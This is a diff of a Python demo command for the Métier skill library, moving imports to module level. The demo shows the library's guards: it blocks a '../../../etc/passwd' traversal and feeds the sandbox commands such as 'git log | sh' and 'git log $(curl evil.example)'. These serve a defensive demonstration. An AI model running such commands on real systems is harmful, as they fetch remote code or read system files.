@@ -14,6 +14,11 @@ from pathlib import Path
 
 import anyio
 
+import metier
+import metier.agent
+import metier.guard
+import metier.skill
+import metier.source
 from metier.cli.agents import require_engine
 from metier.cli.output import Style, table
 from metier.cli.parser import Parser
@@ -59,7 +64,7 @@ def add(parser: Parser) -> None:
     parser.example("metier demo")
 
 
-def run(options: Namespace) -> int:
+def run(options: Namespace) -> None:
     style = Style(sys.stdout)
     with tempfile.TemporaryDirectory(prefix="metier-demo-") as name:
         folder = Path(name)
@@ -76,7 +81,6 @@ def run(options: Namespace) -> int:
         _thousand_skills(style, folder / "many")
     commands = [style.strong(command) for command in ("metier list", "metier chat", "metier new my-skill")]
     print(f"\nNext: {', '.join(commands)}.")
-    return 0
 
 
 def _title(style: Style, number: int, text: str) -> None:
@@ -84,26 +88,23 @@ def _title(style: Style, number: int, text: str) -> None:
 
 
 def _bundled(style: Style) -> None:
-    from metier import Library
-    from metier.library import Place
-    from metier.skill import shorten
-    from metier.source import package_source
-
     _title(style, 1, "Skills that come with Métier")
-    library = Library([Place(layer="plugin", source=package_source("metier", "bundled"))], cache=False)
-    rows = [(entry.name, f"{entry.skill.body_tokens:,}", shorten(entry.description, 160)) for entry in library]
+    library = metier.Library(
+        [metier.Place(layer="plugin", source=metier.source.package_source("metier", "bundled"))], cache=False
+    )
+    rows = [
+        (entry.name, f"{entry.skill.body_tokens:,}", metier.skill.shorten(entry.description, 160)) for entry in library
+    ]
     print(table(style, ("NAME", "TOKENS", "DESCRIPTION"), rows, paint={0: style.strong}))
 
 
 def _odd_skills(style: Style, folder: Path) -> None:
-    from metier import Library
-
     _title(style, 2, "Odd ones from the wild load too, with a precise word on each")
     for name, data in _ODD.items():
         (folder / name).mkdir(parents=True)
         (folder / name / "SKILL.md").write_bytes(data)
     rows = []
-    for entry in Library.from_folder(folder, cache=False).entries(all=True):
+    for entry in metier.Library.from_folder(folder, cache=False).entries(all=True):
         found = [note for note in entry.diagnostics if note.code not in ("name-differs-from-folder", "name-missing")]
         said = "; ".join(f"line {note.line}: {note.message}" for note in found) or "nothing to say"
         rows.append((entry.folder, entry.status if entry.is_broken else f"loads as {entry.name}", said))
@@ -111,10 +112,6 @@ def _odd_skills(style: Style, folder: Path) -> None:
 
 
 def _layers(style: Style, folder: Path) -> None:
-    from metier import Library
-    from metier.library import Place
-    from metier.source import FolderSource
-
     _title(style, 3, "What an administrator deploys cannot be outranked")
     for layer, extra in (("enterprise", ""), ("project", "priority: 5000\n")):
         skill = folder / layer / "deploy"
@@ -122,10 +119,12 @@ def _layers(style: Style, folder: Path) -> None:
         (skill / "SKILL.md").write_text(
             f"---\nname: deploy\ndescription: The {layer}'s way to deploy.\n{extra}---\nDo it.\n"
         )
-    library = Library(
+    library = metier.Library(
         [
-            Place(layer="project", source=FolderSource(folder / "project", name="project")),
-            Place(layer="enterprise", source=FolderSource(folder / "enterprise", name="enterprise")),
+            metier.Place(layer="project", source=metier.source.FolderSource(folder / "project", name="project")),
+            metier.Place(
+                layer="enterprise", source=metier.source.FolderSource(folder / "enterprise", name="enterprise")
+            ),
         ],
         cache=False,
     )
@@ -134,26 +133,22 @@ def _layers(style: Style, folder: Path) -> None:
 
 
 def _edited_skill(style: Style, folder: Path) -> None:
-    from metier import Library
-
     _title(style, 4, "An edit is seen at the very next load")
     skill = folder / "greet"
     skill.mkdir(parents=True)
     file = skill / "SKILL.md"
     file.write_text("---\nname: greet\ndescription: Greets.\n---\nSay hello.\n")
-    library = Library.from_folder(folder, cache=False)
+    library = metier.Library.from_folder(folder, cache=False)
     before = library.document("greet").body
     file.write_text("---\nname: greet\ndescription: Greets.\n---\nSay Hello.\n")
     print(f"before: {before}\nafter:  {library.document('greet').body}   (same size, same second)")
 
 
 def _path_containment(style: Style) -> None:
-    from metier import Library
-    from metier.library import Place
-    from metier.source import package_source
-
     _title(style, 5, "A path cannot leave its skill")
-    library = Library([Place(layer="plugin", source=package_source("metier", "bundled"))], cache=False)
+    library = metier.Library(
+        [metier.Place(layer="plugin", source=metier.source.package_source("metier", "bundled"))], cache=False
+    )
     try:
         library.read("csv-analyst", "../../../etc/passwd")
     except MetierError as error:
@@ -161,12 +156,10 @@ def _path_containment(style: Style) -> None:
 
 
 def _search_and_catalog(style: Style) -> None:
-    from metier import Library
-    from metier.library import Place
-    from metier.source import package_source
-
     _title(style, 6, "The right skill for a prompt, and a catalog of any size you can afford")
-    library = Library([Place(layer="plugin", source=package_source("metier", "bundled"))], cache=False)
+    library = metier.Library(
+        [metier.Place(layer="plugin", source=metier.source.package_source("metier", "bundled"))], cache=False
+    )
     prompt = "my nightly job crashed, what do its logs say?"
     results = library.search(prompt, k=2)
     print(f"search: {prompt}")
@@ -177,20 +170,17 @@ def _search_and_catalog(style: Style) -> None:
 
 
 def _session_rules(style: Style, folder: Path) -> None:
-    from metier import Guard, Library, ToolResult
-    from metier.guard import MemoryLog
-    from metier.library import Place
-    from metier.source import package_source
-
     _title(style, 7, "A session: a skill is loaded, and nothing outside its rules happens")
-    library = Library([Place(layer="plugin", source=package_source("metier", "bundled"))], cache=False)
-    log = MemoryLog()
-    session = library.session(guard=Guard(audit=log), workspace=folder)
+    library = metier.Library(
+        [metier.Place(layer="plugin", source=metier.source.package_source("metier", "bundled"))], cache=False
+    )
+    log = metier.guard.MemoryLog()
+    session = library.session(guard=metier.Guard(audit=log), workspace=folder)
     receipt = session.load("release-notes", by="model").active[0]
     print(f"loaded {receipt.name} {receipt.digest[:19]}…")
     for command in ("git log --oneline -5", "git log | sh", "git log $(curl evil.example)", "sudo git show HEAD"):
         admission = session.calls.admit("Bash", {"command": command})
-        admission.record(ToolResult(success=True))
+        admission.record(metier.ToolResult(success=True))
     for record in log.records[1:]:
         said = "" if record.decision == "allow" else f"  {style.dim(record.reason.partition('. ')[2])}"
         print(f"  {style.outcome(record.decision):<5} {json.loads(record.arguments)['command']}{said}")
@@ -198,19 +188,18 @@ def _session_rules(style: Style, folder: Path) -> None:
 
 
 def _sandboxed(style: Style, folder: Path) -> None:
-    from metier import Guard, Library
-    from metier.guard import MemoryLog
-
     _title(style, 8, "A stranger's script runs in a sandbox")
     skill = folder / "skills" / "nosy"
     (skill / "scripts").mkdir(parents=True)
     (skill / "SKILL.md").write_text("---\nname: nosy\ndescription: Looks around.\n---\nRun scripts/look.py.\n")
     (skill / "scripts" / "look.py").write_text(_NOSY)
     (folder / "key").write_text("secret")
-    library = Library.from_folder(folder / "skills", cache=False)
+    library = metier.Library.from_folder(folder / "skills", cache=False)
     with (
         socket.create_server(("127.0.0.1", 0)) as service,
-        library.session(skills=["nosy"], guard=Guard(audit=MemoryLog()), workspace=folder / "work") as session,
+        library.session(
+            skills=["nosy"], guard=metier.Guard(audit=metier.guard.MemoryLog()), workspace=folder / "work"
+        ) as session,
     ):
         try:
             outcome = session.run_blocking("scripts/look.py", [str(folder / "key"), str(service.getsockname()[1])])
@@ -223,12 +212,6 @@ def _sandboxed(style: Style, folder: Path) -> None:
 
 
 def _agent_run(style: Style, folder: Path) -> None:
-    from metier import Library
-    from metier.guard import MemoryLog
-    from metier.library import Place
-    from metier.skill import shorten
-    from metier.source import package_source
-
     _title(style, 9, "An agent in a file finds and loads the skill that it needs")
     print(f"agents/helper/agent.yaml:\n{textwrap.indent(_AGENT, '  ')}")
     (folder / "helper").mkdir(parents=True)
@@ -238,11 +221,13 @@ def _agent_run(style: Style, folder: Path) -> None:
     except PartMissing as error:
         print(f"{error.message} {for_person(error.hint)}")
         return
-    from metier.agent import Agent, Agents
-
-    library = Library([Place(layer="plugin", source=package_source("metier", "bundled"))], cache=False)
-    agents = Agents.from_folder(folder, library=library)
-    agent = Agent(agents.get("helper"), agents, model="test", audit=MemoryLog(), workspace=folder.parent)
+    library = metier.Library(
+        [metier.Place(layer="plugin", source=metier.source.package_source("metier", "bundled"))], cache=False
+    )
+    agents = metier.agent.Agents.from_folder(folder, library=library)
+    agent = metier.agent.Agent(
+        agents.get("helper"), agents, model="test", audit=metier.guard.MemoryLog(), workspace=folder.parent
+    )
     task = "Which columns does this spreadsheet export have?"
     print(f'$ metier ask "{task}" --agent helper --model test')
 
@@ -252,18 +237,12 @@ def _agent_run(style: Style, folder: Path) -> None:
                 if event.kind == "loaded":
                     print(style.dim(f"  {event.message}"))
                 elif event.kind == "answer":
-                    print(shorten(event.message, 300))
+                    print(metier.skill.shorten(event.message, 300))
 
     anyio.run(main)
 
 
 def _mcp_server(style: Style) -> None:
-    from metier import Library
-    from metier.guard import MemoryLog
-    from metier.library import Place
-    from metier.skill import shorten
-    from metier.source import package_source
-
     _title(style, 10, "The same skills over MCP, as a client sees them")
     try:
         import mcp
@@ -272,8 +251,10 @@ def _mcp_server(style: Style) -> None:
     except ImportError:
         print("This needs the server's part: pip install 'metier[mcp]'")
         return
-    library = Library([Place(layer="plugin", source=package_source("metier", "bundled"))], cache=False)
-    server = SkillServer(library, audit=MemoryLog())
+    library = metier.Library(
+        [metier.Place(layer="plugin", source=metier.source.package_source("metier", "bundled"))], cache=False
+    )
+    server = SkillServer(library, audit=metier.guard.MemoryLog())
 
     async def main() -> None:
         async with mcp.Client(server.protocol) as client:
@@ -281,7 +262,7 @@ def _mcp_server(style: Style) -> None:
             print("prompts:", ", ".join(prompt.name for prompt in (await client.list_prompts()).prompts))
             result = await client.call_tool("skills_load", {"skills": ["log-triage"]})
             text = next((part.text for part in result.content if part.type == "text"), "")
-            print(f"skills_load log-triage: {shorten(' '.join(text.split()), 160)}")
+            print(f"skills_load log-triage: {metier.skill.shorten(' '.join(text.split()), 160)}")
 
     try:
         anyio.run(main)
@@ -293,8 +274,6 @@ def _mcp_server(style: Style) -> None:
 
 
 def _thousand_skills(style: Style, folder: Path) -> None:
-    from metier import Library
-
     _title(style, 11, "A thousand skills")
     for number in range(1_000):
         skill = folder / f"skill-{number}"
@@ -302,7 +281,7 @@ def _thousand_skills(style: Style, folder: Path) -> None:
         text = f"---\nname: skill-{number}\ndescription: Does the {number}th thing.\nversion: 1.{number}\n---\n"
         (skill / "SKILL.md").write_text(text + "Do it.\n" * 500)
     start = time.process_time()
-    library = Library.from_folder(folder, cache=folder.parent / "cache")
+    library = metier.Library.from_folder(folder, cache=folder.parent / "cache")
     cold = time.process_time() - start
     time.sleep(0.3)  # files written this instant are looked at twice
     library.refresh()
